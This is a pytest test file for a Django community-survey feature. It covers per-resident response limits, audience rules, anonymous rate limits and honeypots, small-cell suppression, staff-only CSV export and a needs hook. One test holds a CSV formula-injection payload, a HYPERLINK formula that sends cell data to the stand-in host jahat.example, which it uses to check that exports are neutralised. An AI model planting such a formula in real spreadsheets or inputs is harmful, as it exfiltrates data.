"""Surveys: who answers, one response each, anonymous answers with a rate limit and a
honeypot, results by RW with the small-cell rule, CSV for staff, the needs hook."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from community.public_counts import suppress_small
from config.errors import DomainError
from participation import needs
from participation import surveys as rules
from participation.models import Survey, SurveyResponse
from tests.factories.community import (
    CommunityGroupPageFactory,
    GroupIndexPageFactory,
    UserFactory,
    member_of,
)
from tests.factories.participation import SurveyFactory, add_question

pytestmark = pytest.mark.django_db


@pytest.fixture
def survey(db):
    s = SurveyFactory(title="Survei Kebutuhan Pelatihan 2026")
    add_question(
        s, "Pelatihan apa yang Anda butuhkan?", "multiple_choice", "Menjahit\nTata boga\nKomputer"
    )
    add_question(s, "Berapa orang di rumah?", "number", required=False)
    add_question(s, "Seberapa penting?", "scale")
    add_question(s, "Saran lain", "long_text", required=False)
    return s


def answers(survey, choices=("menjahit",), number="4", scale="5", text=""):
    q = list(survey.questions.all())
    return {q[0].pk: list(choices), q[1].pk: number, q[2].pk: scale, q[3].pk: text}


def test_small_cell_rule():
    assert suppress_small(0) == 0
    assert suppress_small(1) == "< 5"
    assert suppress_small(4) == "< 5"
    assert suppress_small(5) == 5


def test_one_response_per_resident(survey, resident):
    rules.respond(survey, resident, answers(survey))
    with pytest.raises(DomainError) as e:
        rules.respond(survey, resident, answers(survey))
    assert e.value.code == "already_answered"
    assert SurveyResponse.objects.count() == 1


def test_required_and_invalid_answers_save_nothing(survey, resident):
    q = list(survey.questions.all())
    with pytest.raises(DomainError) as e:
        rules.respond(survey, resident, {q[0].pk: ["menjahit"]})
    assert e.value.code == "required"
    with pytest.raises(DomainError):
        rules.respond(survey, resident, answers(survey, scale="9"))
    with pytest.raises(DomainError):
        rules.respond(survey, resident, answers(survey, choices=["berkebun"]))
    with pytest.raises(DomainError):
        rules.respond(survey, resident, answers(survey, number="banyak"))
    assert SurveyResponse.objects.count() == 0


def test_text_answers_are_stripped_of_html(survey, resident):
    rules.respond(survey, resident, answers(survey, text="<b>Kursus</b> sablon"))
    assert survey.questions.last().answers.get().value == "Kursus sablon"


def test_closed_and_not_yet_open(survey, resident):
    survey.closes_at = timezone.now() - timedelta(minutes=1)
    survey.save()
    with pytest.raises(DomainError) as e:
        rules.respond(survey, resident, answers(survey))
    assert e.value.code == "survey_closed"


def test_audience_area(survey, resident, rw, rw4):
    survey.audience = Survey.Audience.AREA
    survey.area = rw4
    survey.save()
    with pytest.raises(DomainError) as e:
        rules.respond(survey, resident, answers(survey))
    assert e.value.code == "not_in_audience"
    survey.area = rw.parent  # the kelurahan: its RWs count too
    survey.save()
    rules.respond(survey, resident, answers(survey))


def test_audience_group(survey, resident, home_page):
    group = CommunityGroupPageFactory(parent=GroupIndexPageFactory(parent=home_page))
    survey.audience = Survey.Audience.GROUP
    survey.group = group
    survey.save()
    with pytest.raises(DomainError):
        rules.respond(survey, resident, answers(survey))
    member_of(group, resident)
    rules.respond(survey, resident, answers(survey))


def test_anonymous_only_where_allowed_with_rate_limit_and_honeypot(survey, rw):
    from django.contrib.auth.models import AnonymousUser

    anon = AnonymousUser()
    with pytest.raises(DomainError) as e:
        rules.respond(survey, anon, answers(survey), address="10.0.0.1")
    assert e.value.status == 401
    survey.allow_anonymous = True
    survey.save()
    with pytest.raises(DomainError) as e:
        rules.respond(survey, anon, answers(survey), address="10.0.0.1", honeypot="http://spam")
    assert SurveyResponse.objects.count() == 0
    for _ in range(rules.ANONYMOUS_PER_DAY):
        rules.respond(survey, anon, answers(survey), address="10.0.0.1", area=rw)
    with pytest.raises(DomainError) as e:
        rules.respond(survey, anon, answers(survey), address="10.0.0.1")
    assert e.value.status == 429
    rules.respond(survey, anon, answers(survey), address="10.0.0.2")


def test_results_by_rw_with_small_cells(survey, rw, rw4):
    for _n in range(6):
        rules.respond(
            survey, UserFactory(home_area=rw), answers(survey, choices=["menjahit", "komputer"])
        )
    for _n in range(2):
        rules.respond(survey, UserFactory(home_area=rw4), answers(survey, choices=["menjahit"]))
    data = rules.results(survey)
    assert data["respondents"] == 8
    first = data["questions"][0]
    assert first["columns"] == ["RW 03", "RW 04"]
    rows = {r["key"]: r for r in first["rows"]}
    assert rows["menjahit"]["total"] == 8
    assert rows["menjahit"]["cells"] == [6, "< 5"]
    assert rows["komputer"]["cells"] == [6, 0]
    assert rows["tata-boga"]["total"] == 0
    number = data["questions"][1]
    averages = {r["key"]: r for r in number["rows"]}["average"]
    assert averages["total"] == 4.0 and averages["cells"] == [4.0, "< 5"]
    # The chart has the same numbers as the table; a small cell draws no bar.
    chart_values = [b["display"] for b in first["chart"]["bars"]]
    assert chart_values == [r["total"] for r in first["rows"]]


def test_results_pages_and_csv(client, survey, resident, staff):
    rules.respond(survey, resident, answers(survey, text="Kursus sablon kaos"))
    page = client.get(f"/survei/{survey.pk}/hasil/")
    body = page.content.decode()
    assert page.status_code == 200 and "&lt; 5" in body and "<svg" in body
    assert "sablon" not in body  # text answers are for staff
    assert client.get(f"/survei/{survey.pk}/hasil.csv").status_code == 302
    client.force_login(resident)
    assert client.get(f"/survei/{survey.pk}/hasil.csv").status_code == 403
    client.force_login(staff)
    csv_page = client.get(f"/survei/{survey.pk}/hasil.csv")
    text = csv_page.content.decode()
    assert "sablon" in text and resident.email not in text


def test_csv_cells_cannot_run_as_formulas(survey, resident):
    formula = '=HYPERLINK("http://jahat.example/?"&A1,"Klik")'
    rules.respond(survey, resident, answers(survey, text=formula))
    rows = list(csv.reader(io.StringIO(rules.csv_export(survey))))
    assert rows[1][-1] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_private_results(client, survey, resident):
    survey.results_public = False
    survey.save()
    assert client.get(f"/survei/{survey.pk}/hasil/").status_code == 403


def test_html_answering(client, survey, resident):
    q = list(survey.questions.all())
    client.force_login(resident)
    page = client.post(
        f"/survei/{survey.pk}/",
        {f"q_{q[0].pk}": ["menjahit", "komputer"], f"q_{q[1].pk}": "3", f"q_{q[2].pk}": "4"},
    )
    assert page.status_code == 302
    assert SurveyResponse.objects.filter(user=resident).exists()
    again = client.get(f"/survei/{survey.pk}/")
    assert again.status_code == 200


def test_needs_hook(survey, rw, rw4):
    for area in (rw, rw, rw4):
        rules.respond(survey, UserFactory(home_area=area), answers(survey, choices=["menjahit"]))
    rules.respond(survey, UserFactory(home_area=rw), answers(survey, choices=["komputer"]))
    q = survey.questions.first()
    key = f"survey:{survey.pk}:question:{q.pk}:choice:menjahit"
    assert (key, f"{survey.title} – {q.text}: Menjahit") in needs.needs_sources()
    assert needs.needs_count(key) == 3
    assert needs.needs_count(key, area=rw) == 2
    assert needs.needs_count(key, area=rw.parent) == 3  # the kelurahan holds both RWs
    assert needs.needs_count(f"survey:{survey.pk}:question:{q.pk}") == 4
    assert needs.needs_count("survey:999:question:1") is None
    assert needs.needs_count(f"survey:{survey.pk}:question:{q.pk}:choice:berkebun") is None
    assert needs.needs_count("nonsense") is None
